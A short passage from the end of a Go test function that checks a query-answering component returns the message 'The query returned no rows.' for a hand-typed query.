	if answer["answer"] != "The query returned no rows." {
		t.Errorf("hand-typed query: answer %q", answer["answer"])
	}
}
